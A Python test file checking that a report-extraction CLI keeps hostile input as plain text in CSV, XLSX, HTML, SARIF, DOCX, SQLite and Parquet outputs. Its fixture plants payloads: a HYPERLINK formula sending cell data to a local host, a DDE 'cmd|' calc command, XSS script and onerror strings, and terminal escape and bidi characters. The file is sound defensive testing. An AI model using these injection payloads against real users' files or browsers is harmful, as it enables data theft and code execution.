"""Text that would do something elsewhere comes out of every verb and format as text, and its file's name too."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from lxml import etree, html

from extractor.cli import main
from extractor.record import Report
from extractor.record_json import report_from_dict

SAMPLES = Path(__file__).parents[1] / "samples"
GOOD = sorted(SAMPLES.glob("2021*.html"))[0]
FORMULA = "=HYPERLINK(\"http://127.0.0.1:9/\"&A1,\"x\")"
STEERS = "\x1b]0;owned\x07\x1b[31m\x9b2J\x07\u202e\u2066"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"
NAME = f"={STEERS}\n<img src=x onerror=alert(1)>@SUM(1).html"
LEFT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""What steers a terminal, or turns the direction of what stands beside it."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A faulty report whose organ, title, prose, cells and name are hostile, beside one that cannot be read."""
    folder = tmp_path_factory.mktemp("年报")
    escaped = MARKUP.replace("<", "&lt;").replace("&amp;", "&")
    page = GOOD.read_text(encoding="utf-8")
    cells = iter((f"{FORMULA}", f"+1{STEERS}件", "-2+3", f"@SUM(1){escaped}", "\t=1+1", "\r\n=1+1"))

    def cell(found: re.Match[str]) -> str:
        return f"{found[1]}{next(cells, found[2])}{found[3]}"

    page = re.sub(r"(<td[^>]*>)(\d+)(</td>)", cell, page)
    organ = "青川湾市云岭区财政局"
    page = page.replace(f"{organ}2021", f"=1+1{STEERS}{escaped}{organ}2021").replace("。", f"。=cmd|' /C calc'!A0{STEERS}{escaped}收到申请99件。", 30)
    (folder / NAME).write_bytes(page.encode("utf-8", "surrogatepass"))
    (folder / f"{STEERS}{MARKUP.replace('/', '')}=2.pdf").write_bytes(b"%PDF-1.4 broken")
    return folder


def ran(*arguments: str | Path) -> tuple[str, str]:
    result = CliRunner().invoke(main, [str(one) for one in arguments])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.stdout_bytes.decode(), result.stderr_bytes.decode()


def outputs(hostile: Path, out: Path) -> Iterator[tuple[str, str]]:
    """What each verb prints, by its command."""
    report = hostile / NAME
    for verb in (
        ("parse", hostile), ("parse", "-f", "csv", hostile), ("parse", "-f", "long", hostile), ("parse", "-f", "findings", hostile),
        ("check", hostile), ("check", "-f", "table", hostile), ("check", "-f", "table", "--lang", "en", hostile),
        ("check", "-f", "csv", hostile), ("check", "-f", "sarif", hostile), ("check", "-f", "html", hostile),
        ("show", report), ("inspect", report), ("diff", report, GOOD), ("diff", "-f", "table", report, GOOD),
        ("run", hostile, "-o", out / "run"), ("run", hostile, "-o", out / "events", "--progress", "json"),
        ("run", hostile, "-o", out / "dry", "--dry-run"), ("show", hostile), ("inspect", next(hostile.glob("*.pdf"))),
        ("parse", str(hostile) + STEERS + "no.pdf"),
    ):
        printed, told = ran(*verb)
        yield f"{verb[0]} {verb[1:3]}", printed
        yield f"{verb[0]} {verb[1:3]} on standard error", told


def test_nothing_that_is_printed_steers_a_terminal(hostile: Path, tmp_path: Path) -> None:
    seen = 0
    for what, text in outputs(hostile, tmp_path):
        assert LEFT.search(text.replace("\r\n", "\n").replace("\r", "")) is None, what
        seen += len(text)
    assert seen > 50_000


def report_of(hostile: Path) -> Report:
    records = [report_from_dict(json.loads(line)) for line in ran("parse", hostile)[0].splitlines()]
    return next(one for one in records if one.source.media_type == "text/html")


def test_the_record_keeps_what_is_printed(hostile: Path) -> None:
    report = report_of(hostile)
    assert report.source.name == NAME and report.source.path == str(hostile / NAME)
    printed = [value.raw for value in report.values.values()]
    assert any(FORMULA in raw for raw in printed if raw)
    assert any("<script>" in section.text for section in report.sections)
    assert [one.code for one in report.findings if one.severity == "error"]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("form", ["csv", "long", "findings"])
def test_no_cell_of_csv_begins_like_a_formula(hostile: Path, form: str) -> None:
    rows = rows_of(ran("parse", "-f", form, hostile)[0])
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell or "cmd|" in cell or NAME[:1] in cell for cell in cells)
    begins = [cell for cell in cells if re.match(r"[=+\-@\r\n＝＋－＠]|\t(?![\s=+\-@＝＋－＠])", cell)]
    assert [cell for cell in begins if not re.fullmatch(r"-+|[+-]?\d+(?:\.\d+)?", cell)] == []


def texts_of(path: Path) -> Iterator[tuple[str, str]]:
    """Every text in a file of results, by where it stands."""
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        yield f"{path.name} formula", str(cell.value)
                    elif isinstance(cell.value, str):
                        yield f"{path.name} {sheet.title} {cell.coordinate}", cell.value
    elif path.suffix == ".sqlite":
        with sqlite3.connect(path) as store:
            for line in store.iterdump():
                yield path.name, line
    elif path.suffix == ".docx":
        with zipfile.ZipFile(path) as package:
            for name in package.namelist():
                if name.endswith(".xml"):
                    yield name, package.read(name).decode()
    else:
        yield path.name, path.read_bytes().decode("utf-8-sig")


def test_every_file_of_results_holds_it_as_text(hostile: Path, tmp_path: Path) -> None:
    ran("run", hostile, "-o", tmp_path / "run")
    ran("check", hostile, "-o", tmp_path / "check.xlsx", "--slips", tmp_path / "slips")
    ran("check", hostile, "-o", tmp_path / "check.html")
    ran("check", hostile, "-o", tmp_path / "check.sarif")
    ran("export", tmp_path / "run" / "reports.jsonl", "-f", "datapackage", "-o", tmp_path / "package")
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert len(files) >= 12 and {path.suffix for path in files} >= {".xlsx", ".html", ".sarif", ".docx", ".sqlite", ".csv", ".jsonl"}
    for path in files:
        assert LEFT.search(path.name) is None and not path.name.startswith(("=", "+", "-", "@")), path
        for where, text in texts_of(path):
            assert LEFT.search(text.replace("\r\n", "\n").replace("\r", "")) is None, (where, LEFT.search(text))
            if where.endswith("formula"):
                assert not any(part in text for part in ("cmd|", "127.0.0.1", "SUM(1)", "1+1", "alert")), (path, text)


def test_the_web_page_runs_nothing_and_leads_nowhere_else(hostile: Path, tmp_path: Path) -> None:
    ran("check", hostile, "-o", tmp_path / "check.html")
    page = html.fromstring((tmp_path / "check.html").read_text(encoding="utf-8"))
    assert "<script>" in page.text_content() and not list(page.iter("script", "img", "iframe", "object", "form"))
    for element in page.iter(etree.Element):
        assert not [name for name in element.attrib if name.startswith("on")]
        assert all(re.match(r"#|$", element.get(name) or "") for name in ("href", "src", "action")), element.attrib


def test_workbooks_and_slips_lead_nowhere_else(hostile: Path, tmp_path: Path) -> None:
    ran("run", hostile, "-o", tmp_path / "run")
    ran("check", hostile, "-o", tmp_path / "check.xlsx", "--slips", tmp_path / "slips")
    for path in (tmp_path / "run" / "reports.xlsx", tmp_path / "check.xlsx", *(tmp_path / "slips").glob("*.docx")):
        with zipfile.ZipFile(path) as package:
            for name in package.namelist():
                assert 'TargetMode="External"' not in package.read(name).decode("utf-8", "replace"), (path, name)


def test_parquet_keeps_it_as_text(hostile: Path, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    ran("parse", hostile, "-o", tmp_path / "reports.jsonl")
    ran("export", tmp_path / "reports.jsonl", "-f", "parquet", "-o", tmp_path / "values.parquet")
    raw = parquet.read_table(tmp_path / "values.parquet").column("raw").to_pylist()
    assert any(one and "HYPERLINK" in one for one in raw)
